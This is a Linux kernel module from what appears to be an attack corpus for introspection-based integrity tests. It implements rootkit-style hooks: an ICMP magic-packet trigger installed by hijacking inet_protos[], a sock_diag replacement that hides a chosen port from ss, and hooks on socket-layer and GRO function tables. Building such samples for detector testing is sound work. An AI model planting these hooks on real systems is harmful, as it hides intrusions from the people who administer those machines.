// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_netproto: a magic-packet backdoor's trigger through a
 * transport protocol handler, for the integrity tests. It takes over a
 * slot of inet_protos[] the way a rootkit does without a netfilter hook
 * or a packet tap: the struct net_protocol registered for @proto
 * (default 1, ICMP: the kernel's icmp_protocol) is unregistered with
 * inet_del_protocol() and a copy whose handler is this module's
 * registered with inet_add_protocol(). An ICMP echo request of
 * @magic_len data bytes whose last 8 are @magic_byte (what "ping -s 42
 * -p 78" sends) is counted in @hits and swallowed (no echo reply); every
 * other packet goes to the original handler (icmp_rcv()), so ping and
 * port-unreachable errors keep working. Nothing in kernel text or
 * read-only data changes: the only trace is the pointer in the writable
 * inet_protos[]. A @proto nothing has registered (e.g. 253, an
 * experimental number) gets a handler that counts and frees every
 * packet. Unloading puts the original back.
 *
 * recvmsg=1: instead, the socket side. udp_prot (struct proto, exported,
 * writable .data) gets this module's recvmsg, which counts every call in
 * @hits and calls the original udp_recvmsg(): what a rootkit does to
 * filter what sockets receive. Unloading puts the original back (with
 * no UDP socket waiting in recvmsg: a test module, not a safe one).
 *
 * family=1 table=<&net_families from /proc/kallsyms>: the socket()
 * side. net_families[AF_INET] (writable .data, not exported: the test
 * passes its address) is pointed at a copy of inet_family_ops whose
 * create counts every AF_INET socket() in @hits and calls inet_create().
 *
 * diag=1 table=<&sock_diag_handlers>: a connection hider for ss. With
 * inet_diag loaded (ss loads it on demand), sock_diag_handlers[AF_INET]
 * is pointed at a copy of inet_diag's handler whose dump rewrites every
 * socket dump request without a filter (what "ss -tn" sends) into one
 * with inet_diag's own bytecode filter "local port below @port, or
 * above it" (counted in @hits), then calls inet_diag's dump: ss no
 * longer lists a socket bound to @port, while /proc/net/tcp does. Only
 * the slot changes; inet_diag is held (its owner) until unloading puts
 * the original back.
 *
 * protosw=1 table=<&inetsw_array>: every new TCP socket's functions.
 * inetsw_array[0], the kernel's inet_protosw for SOCK_STREAM/IPPROTO_TCP
 * (writable .data, not exported), gets a copy of its inet_stream_ops
 * whose recvmsg counts every call in @hits and calls inet_recvmsg():
 * struct proto (tcp_prot) and the list stay as they were. Sockets made
 * while it is loaded keep the copy and hold the module (its owner):
 * the tests close them before unloading.
 *
 * gro=1: the GRO side. inet_offloads[IPPROTO_UDP] (exported) is pointed
 * at a copy of udp's struct net_offload whose gro_receive counts in
 * @hits and calls the original: it would see every received UDP packet
 * a NAPI driver hands to GRO before the stack does. protosw=1 gro=1
 * does both (the fuzz snapshot's guest, scripts/fuzz-snapshot.sh).
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/inet_diag.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/net.h>
#include <linux/netdevice.h>
#include <linux/netlink.h>
#include <linux/skbuff.h>
#include <linux/sock_diag.h>
#include <net/netlink.h>
#include <net/protocol.h>
#include <net/inet_common.h>
#include <net/sock.h>
#include <net/udp.h>

#include "vmiaas_attack_magic.h"

static ushort magic_len = 42;
module_param(magic_len, ushort, 0444);
MODULE_PARM_DESC(magic_len, "ICMP echo data length of the trigger");

static unsigned char magic_byte = 0x78;
module_param(magic_byte, byte, 0444);
MODULE_PARM_DESC(magic_byte, "the byte its last 8 data bytes hold");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "trigger packets swallowed (an unused @proto: every packet)");

static uint proto = IPPROTO_ICMP;
module_param(proto, uint, 0444);
MODULE_PARM_DESC(proto, "the IP protocol number to take over (default 1, ICMP)");

static bool recvmsg;
module_param(recvmsg, bool, 0444);
MODULE_PARM_DESC(recvmsg, "hook udp_prot.recvmsg instead of a protocol");

static bool family;
module_param(family, bool, 0444);
MODULE_PARM_DESC(family, "hook net_families[AF_INET] (at @table) instead");

static bool diag;
module_param(diag, bool, 0444);
MODULE_PARM_DESC(diag, "hide @port from ss through sock_diag_handlers[AF_INET] (at @table)");

static bool protosw;
module_param(protosw, bool, 0444);
MODULE_PARM_DESC(protosw, "give tcp's inet_protosw (at @table) a copy of its ops instead");

static bool gro;
module_param(gro, bool, 0444);
MODULE_PARM_DESC(gro, "point inet_offloads[IPPROTO_UDP] at a copy instead");

static unsigned long table;
module_param(table, ulong, 0444);
MODULE_PARM_DESC(table, "address of net_families, sock_diag_handlers or inetsw_array (from /proc/kallsyms)");

static ushort port = 31339;
module_param(port, ushort, 0444);
MODULE_PARM_DESC(port, "diag=1: the local port ss no longer lists");

static typeof(udp_prot.recvmsg) vmiaas_attack_netproto_orig_recvmsg;

/* family=1, diag=1: the slot written, what it held, the copy put there */
static const void **vmiaas_attack_netproto_slot;
static const struct net_proto_family *vmiaas_attack_netproto_orig_pf;
static struct net_proto_family vmiaas_attack_netproto_pf;
static const struct sock_diag_handler *vmiaas_attack_netproto_orig_diag;
static struct sock_diag_handler vmiaas_attack_netproto_diag;

/* protosw=1: tcp's entry, its ops, the copy; gro=1: udp's offload, the copy */
static struct inet_protosw *vmiaas_attack_netproto_sw;
static const struct proto_ops *vmiaas_attack_netproto_orig_ops;
/* The writable copy of *orig_ops, as bytes (a const table's copy). */
static u8 vmiaas_attack_netproto_ops[sizeof(*vmiaas_attack_netproto_orig_ops)]
	__aligned(8);
static const struct net_offload *vmiaas_attack_netproto_orig_off;
static struct net_offload vmiaas_attack_netproto_off;

static const struct net_protocol *vmiaas_attack_netproto_orig;
static struct net_protocol vmiaas_attack_netproto_own;

static int vmiaas_attack_netproto_rcv(struct sk_buff *skb)
{
	const struct net_protocol *orig = vmiaas_attack_netproto_orig;

	if (!orig || vmiaas_attack_magic(skb, magic_len, magic_byte)) {
		WRITE_ONCE(hits, READ_ONCE(hits) + 1);
		if (orig)
			pr_info("magic packet %u\n", READ_ONCE(hits));
		consume_skb(skb);
		return 0;
	}
	return orig->handler(skb);
}

static int vmiaas_attack_netproto_err(struct sk_buff *skb, u32 info)
{
	const struct net_protocol *orig = vmiaas_attack_netproto_orig;

	return orig && orig->err_handler ? orig->err_handler(skb, info) : 0;
}

static int vmiaas_attack_netproto_recvmsg(struct sock *sk, struct msghdr *msg,
					  size_t len, int flags, int *addr_len)
{
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
	return vmiaas_attack_netproto_orig_recvmsg(sk, msg, len, flags,
						   addr_len);
}

static int vmiaas_attack_netproto_create(struct net *net, struct socket *sock,
					 int protocol, int kern)
{
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
	return vmiaas_attack_netproto_orig_pf->create(net, sock, protocol, kern);
}

static int vmiaas_attack_netproto_sw_recvmsg(struct socket *sock,
					     struct msghdr *msg, size_t len,
					     int flags)
{
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
	return vmiaas_attack_netproto_orig_ops->recvmsg(sock, msg, len, flags);
}

static struct sk_buff *vmiaas_attack_netproto_gro(struct list_head *head,
						  struct sk_buff *skb)
{
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
	return vmiaas_attack_netproto_orig_off->callbacks.gro_receive(head, skb);
}

/* protosw=1: inetsw_array[0] (tcp) on a copy of its ops. */
static int vmiaas_attack_netproto_protosw(void)
{
	struct inet_protosw *sw = (struct inet_protosw *)table;
	typeof(vmiaas_attack_netproto_orig_ops->recvmsg) fn =
		vmiaas_attack_netproto_sw_recvmsg;

	if (!table || sw->type != SOCK_STREAM || sw->protocol != IPPROTO_TCP)
		return -EINVAL;
	vmiaas_attack_netproto_sw = sw;
	vmiaas_attack_netproto_orig_ops = READ_ONCE(sw->ops);
	memcpy(vmiaas_attack_netproto_ops, vmiaas_attack_netproto_orig_ops,
	       sizeof(vmiaas_attack_netproto_ops));
	memcpy(vmiaas_attack_netproto_ops +
	       offsetof(typeof(*vmiaas_attack_netproto_orig_ops), recvmsg),
	       &fn, sizeof(fn));
	/* sockets of the copy hold this module (__sock_create(), accept) */
	*(struct module **)(vmiaas_attack_netproto_ops +
			    offsetof(typeof(*vmiaas_attack_netproto_orig_ops),
				     owner)) = THIS_MODULE;
	WRITE_ONCE(sw->ops, (const void *)vmiaas_attack_netproto_ops);
	pr_info("tcp's inet_protosw ops hooked (%ps)\n",
		vmiaas_attack_netproto_orig_ops->recvmsg);
	return 0;
}

/* gro=1: inet_offloads[IPPROTO_UDP] on a copy. */
static int vmiaas_attack_netproto_gro_init(void)
{
	const struct net_offload *orig;

	orig = rcu_dereference_protected(inet_offloads[IPPROTO_UDP], 1);
	if (!orig || !orig->callbacks.gro_receive)
		return -ENOENT;
	vmiaas_attack_netproto_orig_off = orig;
	vmiaas_attack_netproto_off = *orig;
	vmiaas_attack_netproto_off.callbacks.gro_receive =
		vmiaas_attack_netproto_gro;
	rcu_assign_pointer(inet_offloads[IPPROTO_UDP],
			   &vmiaas_attack_netproto_off);
	pr_info("inet_offloads[IPPROTO_UDP] hooked (%ps)\n",
		orig->callbacks.gro_receive);
	return 0;
}

/*
 * The request @nlh again, with the bytecode "sport < port: accept; sport
 * > port: accept; else reject" (each port comparison two ops: the
 * second holds the port in ->no; "yes" goes on, "no" jumps: to the end,
 * accept, or 4 past it, reject), then inet_diag's dump. The copy is
 * inet_diag's for the dump (it holds its own reference).
 */
static int vmiaas_attack_netproto_dump(struct sk_buff *skb,
				       struct nlmsghdr *nlh)
{
	const struct inet_diag_bc_op bc[4] = {
		{ INET_DIAG_BC_S_GE, 8, 16 }, { 0, 0, port },
		{ INET_DIAG_BC_S_GE, 8, 12 }, { 0, 0, port + 1 },
	};
	const int hdrlen = sizeof(struct inet_diag_req_v2);
	const struct sock_diag_handler *orig = vmiaas_attack_netproto_orig_diag;
	struct nlmsghdr *copy;
	struct sk_buff *nskb;
	int err;

	if (nlh->nlmsg_type != SOCK_DIAG_BY_FAMILY ||
	    !(nlh->nlmsg_flags & NLM_F_DUMP) || nlmsg_len(nlh) < hdrlen ||
	    nlmsg_find_attr(nlh, hdrlen, INET_DIAG_REQ_BYTECODE))
		return orig->dump(skb, nlh);
	nskb = nlmsg_new(nlmsg_len(nlh) + nla_total_size(sizeof(bc)),
			 GFP_KERNEL);
	if (!nskb)
		return -ENOMEM;
	copy = __nlmsg_put(nskb, nlh->nlmsg_pid, nlh->nlmsg_seq,
			   nlh->nlmsg_type, nlmsg_len(nlh), nlh->nlmsg_flags);
	memcpy(nlmsg_data(copy), nlmsg_data(nlh), nlmsg_len(nlh));
	if (nla_put(nskb, INET_DIAG_REQ_BYTECODE, sizeof(bc), bc)) {
		kfree_skb(nskb);
		return -EMSGSIZE;
	}
	nlmsg_end(nskb, copy);
	NETLINK_CB(nskb) = NETLINK_CB(skb);
	/*
	 * netlink_net_capable() reads the requester's netns through
	 * skb->sk; the socket outlives the dump (closing it ends the dump)
	 */
	nskb->sk = skb->sk;
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
	err = orig->dump(nskb, copy);
	consume_skb(nskb);
	return err;
}

/* net_families[AF_INET] or sock_diag_handlers[AF_INET] on our copy. */
static int vmiaas_attack_netproto_table(void)
{
	const void *orig;

	if (!table)
		return -EINVAL;
	vmiaas_attack_netproto_slot = (const void **)table + AF_INET;
	orig = READ_ONCE(*vmiaas_attack_netproto_slot);
	if (!orig)
		return -ENOENT;
	if (family) {
		vmiaas_attack_netproto_orig_pf = orig;
		vmiaas_attack_netproto_pf = *vmiaas_attack_netproto_orig_pf;
		vmiaas_attack_netproto_pf.create = vmiaas_attack_netproto_create;
		vmiaas_attack_netproto_pf.owner = THIS_MODULE;
		WRITE_ONCE(*vmiaas_attack_netproto_slot,
			   &vmiaas_attack_netproto_pf);
		pr_info("net_families[AF_INET] hooked (%ps)\n",
			vmiaas_attack_netproto_orig_pf->create);
		return 0;
	}
	vmiaas_attack_netproto_orig_diag = orig;
	if (!try_module_get(vmiaas_attack_netproto_orig_diag->owner))
		return -EBUSY;
	vmiaas_attack_netproto_diag = *vmiaas_attack_netproto_orig_diag;
	vmiaas_attack_netproto_diag.dump = vmiaas_attack_netproto_dump;
	vmiaas_attack_netproto_diag.owner = THIS_MODULE;
	WRITE_ONCE(*vmiaas_attack_netproto_slot, &vmiaas_attack_netproto_diag);
	pr_info("sock_diag_handlers[AF_INET] hooked (%ps), hiding port %u\n",
		vmiaas_attack_netproto_orig_diag->dump, port);
	return 0;
}

/* protosw=1, gro=1, or both (the fuzz snapshot's guest): all or nothing. */
static int vmiaas_attack_netproto_sw_gro(void)
{
	int err = protosw ? vmiaas_attack_netproto_protosw() : 0;

	if (err || !gro)
		return err;
	err = vmiaas_attack_netproto_gro_init();
	if (err && protosw) {
		WRITE_ONCE(vmiaas_attack_netproto_sw->ops,
			   vmiaas_attack_netproto_orig_ops);
		synchronize_net();
	}
	return err;
}

static int __init vmiaas_attack_netproto_init(void)
{
	const struct net_protocol *orig;

	if (family || diag)
		return vmiaas_attack_netproto_table();
	if (protosw || gro)
		return vmiaas_attack_netproto_sw_gro();

	if (recvmsg) {
		vmiaas_attack_netproto_orig_recvmsg = udp_prot.recvmsg;
		WRITE_ONCE(udp_prot.recvmsg, vmiaas_attack_netproto_recvmsg);
		pr_info("udp_prot.recvmsg hooked (%ps)\n",
			vmiaas_attack_netproto_orig_recvmsg);
		return 0;
	}

	if (proto >= MAX_INET_PROTOS)
		return -EINVAL;
	orig = rcu_dereference_protected(inet_protos[proto], 1);
	if (orig) {
		vmiaas_attack_netproto_own = *orig;	/* its flags */
		if (inet_del_protocol(orig, proto))
			return -EBUSY;
	}
	vmiaas_attack_netproto_orig = orig;
	vmiaas_attack_netproto_own.handler = vmiaas_attack_netproto_rcv;
	vmiaas_attack_netproto_own.err_handler = vmiaas_attack_netproto_err;
	if (inet_add_protocol(&vmiaas_attack_netproto_own, proto)) {
		if (orig && inet_add_protocol(orig, proto))
			pr_err("protocol %u lost\n", proto);
		return -EBUSY;
	}
	pr_info("protocol %u taken over (%ps)\n", proto,
		orig ? orig->handler : NULL);
	return 0;
}

/* The original back; inet_del_protocol() waits for the receive paths. */
static void __exit vmiaas_attack_netproto_exit(void)
{
	const struct net_protocol *orig = vmiaas_attack_netproto_orig;

	if (family || diag) {
		WRITE_ONCE(*vmiaas_attack_netproto_slot,
			   family ? (const void *)vmiaas_attack_netproto_orig_pf :
				    (const void *)vmiaas_attack_netproto_orig_diag);
		synchronize_net();
		if (diag)
			module_put(vmiaas_attack_netproto_orig_diag->owner);
		pr_info("AF_INET's %s given back after %u hits\n",
			family ? "family" : "diag handler", hits);
		return;
	}
	if (protosw || gro) {
		if (protosw)
			WRITE_ONCE(vmiaas_attack_netproto_sw->ops,
				   vmiaas_attack_netproto_orig_ops);
		if (gro)
			rcu_assign_pointer(inet_offloads[IPPROTO_UDP],
					   vmiaas_attack_netproto_orig_off);
		synchronize_net();
		pr_info("%s%s%s given back after %u calls\n",
			protosw ? "tcp's ops" : "", protosw && gro ? ", " : "",
			gro ? "udp's offload" : "", hits);
		return;
	}
	if (recvmsg) {
		WRITE_ONCE(udp_prot.recvmsg, vmiaas_attack_netproto_orig_recvmsg);
		/* a socket still waiting in it would fault: the tests leave none */
		synchronize_net();
		pr_info("udp_prot.recvmsg given back after %u calls\n", hits);
		return;
	}
	inet_del_protocol(&vmiaas_attack_netproto_own, proto);
	if (orig && inet_add_protocol(orig, proto))
		pr_err("protocol %u not restored\n", proto);
	pr_info("protocol %u given back after %u hits\n", proto, hits);
}

module_init(vmiaas_attack_netproto_init);
module_exit(vmiaas_attack_netproto_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: inet_protos[] handler magic-packet trigger, socket-layer and GRO table hooks");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
